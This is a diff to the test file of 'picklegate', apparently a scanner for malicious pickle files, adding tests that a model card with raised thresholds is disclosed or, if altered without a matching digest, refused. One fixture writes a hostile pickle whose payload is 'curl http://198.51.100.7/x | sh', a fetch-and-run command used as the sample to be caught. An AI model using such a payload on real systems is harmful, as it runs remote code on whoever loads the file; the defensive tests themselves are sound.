@@ -12,6 +12,8 @@ from pathlib import Path
 
 import pytest
 
+from picklegate.judging.model_files import digest_of
+
 DATA = Path(__file__).parents[2] / "src" / "picklegate" / "data"
 
 
@@ -40,8 +42,30 @@ def test_a_folder_is_used(tmp_path: Path, file: Path) -> None:
     file.write_bytes(b"cmy_kit\nRunShell\n(S'curl http://198.51.100.7/x | sh'\ntR.")
     assert _scan(DATA, file).returncode == 1
     card = json.loads((own / "card.json").read_text("utf-8"))
+    card |= {"review": 2.0, "block": 2.0}
+    card["sha256"]["card.json"] = digest_of(card)
+    (own / "card.json").write_text(json.dumps(card), "utf-8")
+    done = _scan(own, file)
+    assert done.returncode == 0
+    assert done.stderr.count("PICKLEGATE_MODEL replaces the model by the one in") == 1
+    made_by = json.loads(done.stdout)["context"]["made_by"]
+    assert made_by["model"] == {
+        "version": card["version"],
+        "digest": card["sha256"]["card.json"],
+        "folder": str(own),
+    }
+    assert "PICKLEGATE_MODEL replaces the model" in made_by["laxer"][0]
+
+
+def test_an_altered_card_is_refused(tmp_path: Path, file: Path) -> None:
+    """Thresholds that somebody has raised in the card alone are no model."""
+    own = tmp_path / "own"
+    shutil.copytree(DATA, own, symlinks=True)
+    card = json.loads((own / "card.json").read_text("utf-8"))
     (own / "card.json").write_text(json.dumps({**card, "review": 2.0, "block": 2.0}), "utf-8")
-    assert _scan(own, file).returncode == 0
+    done = _scan(own, file)
+    assert done.returncode == 2
+    assert "card.json is not what training wrote" in done.stderr
 
 
 @pytest.mark.parametrize("name", ["model.json", "vocabulary.json", "novelty.json"])
